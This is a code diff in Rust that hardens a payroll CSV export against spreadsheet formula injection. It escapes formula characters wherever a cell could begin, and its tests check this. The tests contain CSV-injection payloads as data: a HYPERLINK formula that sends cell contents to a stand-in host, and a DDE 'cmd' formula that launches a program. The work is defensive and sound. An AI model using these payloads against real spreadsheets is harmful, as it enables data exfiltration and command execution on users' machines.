@@ -34,13 +34,38 @@ fn name<'a>(names: &'a HashMap<UserId, String>, user: &'a UserId) -> &'a str {
     names.get(user).map_or(user.as_str(), String::as_str)
 }
 
-/// A cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, tab or carriage return
-/// first) gets a `'` in front, as OWASP advises for CSV exports: names are what people set in
-/// Slack, and `=HYPERLINK(…)` as a name must not run when payroll opens the file.
+/// Where a spreadsheet may start a new cell inside a field, whatever this file's delimiter: Excel
+/// splits a `.csv` on the locale's list separator, which is `;` wherever the comma is the decimal
+/// mark (much of Europe), and some importers also split on tab; a line end starts a new row.
+const CELL_BREAKS: [char; 5] = [',', ';', '\t', '\r', '\n'];
+
+/// What makes a cell a formula (or, for tab and carriage return, hides one) when it comes first.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Text made safe for a spreadsheet: a formula character (`=`, `+`, `-`, `@`, tab, carriage
+/// return) that could begin a cell gets a `'` in front, as OWASP advises for CSV exports. Names
+/// are what people set in Slack, and `=HYPERLINK(…)` as a name must not run when payroll opens
+/// the file.
+///
+/// "Could begin a cell" is the start of the field *and* the place after every `,`, `;`, tab or
+/// line end in it (spaces and quotes skipped, as an importer may trim them): a spreadsheet that
+/// splits on `;` reads `Mallory;=1+cmd|…` as two cells, the second a formula. Quoting such a
+/// field would not help, because in that locale the quote is not at the start of a cell
+/// (`UALICE,"Mallory;=…` splits at the `;` all the same); a `'` before the formula character
+/// works however the line is split, and leaves the name readable.
 fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
-    match cell.chars().next() {
-        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
-        _ => cell.into(),
+    let mut safe = String::with_capacity(cell.len() + 1);
+    let mut may_begin = true;
+    for c in cell.chars() {
+        if may_begin && FORMULA_STARTS.contains(&c) {
+            safe.push('\'');
+        }
+        safe.push(c);
+        may_begin = CELL_BREAKS.contains(&c) || (may_begin && matches!(c, ' ' | '"'));
+    }
+    match safe.len() == cell.len() {
+        true => cell.into(),
+        false => safe.into(),
     }
 }
 
@@ -55,10 +80,11 @@ pub fn csv(
     for s in statements {
         for c in &s.channels {
             let b = &c.breakdown;
+            // Ids too: a console's (`-x`, say) may start with a formula character.
             out.write_record([
-                s.user.as_str(),
+                &*spreadsheet_text(s.user.as_str()),
                 &spreadsheet_text(name(names, &s.user)),
-                c.channel.as_str(),
+                &spreadsheet_text(c.channel.as_str()),
                 &b.shown_days(DayKind::Weekday).to_string(),
                 &b.shown_days(DayKind::Weekend).to_string(),
                 &b.shown_days(DayKind::BankHoliday).to_string(),
@@ -244,17 +270,28 @@ mod tests {
         let cases = [
             (
                 "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
-                "'=HYPERLINK(",
+                "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
             ),
-            ("+44 7700 900000", "'+44"),
+            ("+44 7700 900000", "'+44 7700 900000"),
             ("-Alice", "'-Alice"),
             ("@alice", "'@alice"),
             ("\tAlice", "'\tAlice"),
+            (" =1+1", " '=1+1"),
+            ("\"=1+1\"", "\"'=1+1\""),
+            // Where `;` is the list separator, the part after it is a cell of its own.
+            (
+                "Mallory;=1+cmd|' /C calc'!A0",
+                "Mallory;'=1+cmd|' /C calc'!A0",
+            ),
+            ("Smith, =1+1", "Smith, '=1+1"),
+            ("Smith;\t@SUM(A1)", "Smith;'\t'@SUM(A1)"),
             ("Alice = Bob", "Alice = Bob"),
+            ("Jean-Luc Picard", "Jean-Luc Picard"),
+            ("Smith; Anna", "Smith; Anna"),
             ("Zoë", "Zoë"),
         ];
         for (name, want) in cases {
-            assert!(spreadsheet_text(name).starts_with(want), "{name:?}");
+            assert_eq!(spreadsheet_text(name), want, "{name:?}");
         }
         let policy = PayPolicy::unconfigured(chrono_tz::Europe::London);
         let user = UserId::parse("UALICE").unwrap();
@@ -271,8 +308,27 @@ mod tests {
             "2025-06".parse().unwrap(),
             "2025-06-03T08:00:00Z".parse().unwrap(),
         );
-        let names = HashMap::from([(user, "=cmd|' /C calc'!A0".to_owned())]);
-        let out = csv(&[statement], &policy, &names).unwrap();
-        assert!(out.contains("UALICE,'=cmd|"), "{out}");
+        let console_ids = Statement {
+            user: UserId::parse("-bob").unwrap(),
+            ..statement.clone()
+        };
+        for (statement, name, row) in [
+            (&statement, "=cmd|' /C calc'!A0", "UALICE,'=cmd|"),
+            (
+                &statement,
+                "Mallory;=cmd|' /C calc'!A0",
+                "UALICE,Mallory;'=cmd|",
+            ),
+            (&console_ids, "Bob", "'-bob,Bob,"),
+        ] {
+            let names = HashMap::from([(statement.user.clone(), name.to_owned())]);
+            let out = csv(std::slice::from_ref(statement), &policy, &names).unwrap();
+            assert!(out.contains(row), "{out}");
+            // However a spreadsheet splits the line, no cell starts a formula.
+            for cell in out.lines().flat_map(|l| l.split([',', ';', '\t'])) {
+                let start = cell.trim_start_matches([' ', '"']);
+                assert!(!start.starts_with(FORMULA_STARTS), "{cell:?} in {out}");
+            }
+        }
     }
 }
